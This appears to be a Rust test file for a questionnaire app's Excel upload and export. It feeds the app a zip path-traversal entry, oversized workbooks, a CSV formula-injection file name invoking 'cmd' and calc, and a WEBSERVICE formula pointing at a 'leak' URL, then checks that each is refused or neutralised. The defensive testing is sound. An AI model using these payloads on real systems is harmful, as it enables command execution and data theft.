            rezip(&ours, &[(sheet.as_str(), laughs.clone().into_bytes())]),
            "",
        ));
    }
    // An entry named to climb out of any folder it might be unpacked into.
    cases.push((
        "traversal entry",
        rezip(&ours, &[("../../x", b"owned".to_vec())]),
        "",
    ));
    // A thousand sheets.
    let many: Vec<(String, Vec<u8>)> = (0..1000)
        .map(|i| {
            (
                format!("xl/worksheets/extra{i}.xml"),
                b"<worksheet/>".to_vec(),
            )
        })
        .collect();
    let many_refs: Vec<(&str, Vec<u8>)> =
        many.iter().map(|(n, d)| (n.as_str(), d.clone())).collect();
    cases.push((
        "a thousand sheets",
        rezip(&ours, &many_refs),
        "This file is too large once unpacked to be a questionnaire.",
    ));
    // Exactly the upload limit, and not a workbook.
    cases.push((
        "exactly the limit",
        vec![b'P'; coherence::questionnaire::import::MAX_UPLOAD_BYTES],
        "This file is not an Excel workbook (.xlsx).",
    ));
    for (what, bytes, message) in cases {
        let started = std::time::Instant::now();
        let page = upload_workbook(&app, &coordinator, bytes).await;
        assert!(
            page.status == 422 || page.status == 200,
            "{what}: {} {}",
            page.status,
            page.body
        );
        if page.status == 200 {
            assert!(
                page.body.contains("already hold") || page.body.contains("nothing"),
                "{what}: {}",
                page.body
            );
        }
        assert!(page.body.contains(message), "{what}: {}", page.body);
        assert!(
            started.elapsed().as_secs() < 10,
            "{what}: {:?}",
            started.elapsed()
        );
    }
    // One byte past the limit: refused before it is read.
    let page = upload_workbook(
        &app,
        &coordinator,
        vec![b'P'; coherence::questionnaire::import::MAX_UPLOAD_BYTES + 70 * 1024],
    )
    .await;
    assert_eq!(page.status, 413);
    // The questionnaire upload is no way around the section's file limits: a workbook posted
    // as a section file is a file like another.
    let after = app.get(&format!("{coordinator}/s/basics")).await;
    assert_eq!(after.field_value("name").as_deref(), Some("Anna"));
    assert_eq!(saved_count(&app), before);
}

async fn file_names_reach_the_exports_as_text(backend: Backend) {
    let app = spawn(backend).await;
    let link = app.issue_token("evidence", "SWE", "Anna");
    let name = "=1+2-@SUM(A1)+cmd' -C calc'!A0.pdf";
    let page = post_section(
        &app,
        &link,
        "policy",
        vec![
            text_part("strategy", "yes"),
            file_part("documents", name, PDF),
        ],
    )
    .await;
    assert_eq!(page.status, 303, "{}", page.body);
    let submitted = app.submit(&link).await;
    assert_eq!(submitted.status, 303, "{}", submitted.body);
    app.add_user(
        "admin@gfmd.example.org",
        "a long admin passphrase",
        "admin",
        &[],
    );
    let res = app
        .login("admin@gfmd.example.org", "a long admin passphrase")
        .await;
    assert_eq!(res.status, 303);
    let csv = app.get("/admin/surveys/evidence/export.csv").await;
    assert_eq!(csv.status, 200);
    let mut reader = csv::Reader::from_reader(csv.body.as_bytes());
    let mut seen = false;
    for record in reader.records() {
        for cell in record.unwrap().iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@']),
                "a formula in the CSV: {cell}"
            );
            seen |= cell.contains("cmd' -C calc'!A0.pdf");
        }
    }
    assert!(seen, "{}", csv.body);
    let json = app.get("/admin/surveys/evidence/export.json").await;
    assert_eq!(json.status, 200);
    assert!(
        json.body.contains("=1+2-@SUM(A1)+cmd' -C calc'!A0.pdf"),
        "{}",
        json.body
    );
}

/// The workbook's cell (A1 name) of a question's answer, found by the hidden id column.
fn answer_cell(bytes: &[u8], sheet: &str, question: &str) -> String {
    use calamine::{Data, Reader, Xlsx};
    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(bytes.to_vec())).unwrap();
    let range = book.worksheet_range(sheet).unwrap();
    let (end, _) = range.end().unwrap();
    for r in 0..=end {
        if matches!(range.get_value((r, 0)), Some(Data::String(s)) if s == question) {
            return format!("D{}", r + 1);
        }
    }
    panic!("no row for {question} in {sheet}");
}

/// Write formulas into cells with openpyxl, as a person typing them would (no cached value).
fn with_formulas(bytes: &[u8], edits: &[(&str, String, &str)]) -> Vec<u8> {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("in.xlsx");
    std::fs::write(&path, bytes).unwrap();
    let list: Vec<serde_json::Value> = edits
        .iter()
        .map(|(sheet, cell, v)| serde_json::json!([sheet, cell, v]))
        .collect();
    let script = r#"
import sys, json, openpyxl
path, edits = sys.argv[1], json.loads(sys.argv[2])
wb = openpyxl.load_workbook(path)
for sheet, cell, value in edits:
    wb[sheet][cell].value = value
wb.save(path)
"#;
    let python = std::env::var("COHERENCE_TEST_PYTHON")
        .expect("COHERENCE_TEST_PYTHON: the test venv with openpyxl");
    let out = std::process::Command::new(python)
        .args(["-c", script, path.to_str().unwrap()])
        .arg(serde_json::Value::Array(list).to_string())
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "openpyxl: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    std::fs::read(&path).unwrap()
}

async fn formulas_typed_into_the_workbook_never_clear_an_answer_silently(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let link = app.issue_token("fixture", "SWE", "Anna Berg");
    let saved = app
        .save_section(&link, "basics", &[("name", "Anna"), ("staff", "7")])
        .await;
    assert_eq!(saved.status, 303, "{}", saved.body);
    let before = saved_count(&app);
    let ours = workbook(&app, &link).await;
    let sheet = "1. Basics";
    let name = answer_cell(&ours, sheet, "name");
    let staff = answer_cell(&ours, sheet, "staff");
    let filled = with_formulas(
        &ours,
        &[
            (
                sheet,
                name.clone(),
                "=WEBSERVICE(\"http://127.0.0.1:9/leak\")",
            ),
            (sheet, staff.clone(), "=1+1"),
        ],
    );
    let page = upload_workbook(&app, &link, filled).await;
    // Refused cell by cell, never read as "empty" and the answers deleted.
    assert_eq!(page.status, 422, "{}", page.body);
    for cell in [&name, &staff] {
        assert!(
            page.body.contains(&format!("{sheet}!{cell}")),
            "{cell}: {}",
            page.body
        );
    }
    assert_eq!(
        page.body
            .matches("Type the answer itself, not a formula")
            .count(),
        2,
        "{}",
        page.body
    );
    let form = app.get(&format!("{link}/s/basics")).await;
    assert_eq!(form.field_value("name").as_deref(), Some("Anna"));
    assert_eq!(form.field_value("staff").as_deref(), Some("7"));
    assert_eq!(saved_count(&app), before);
}
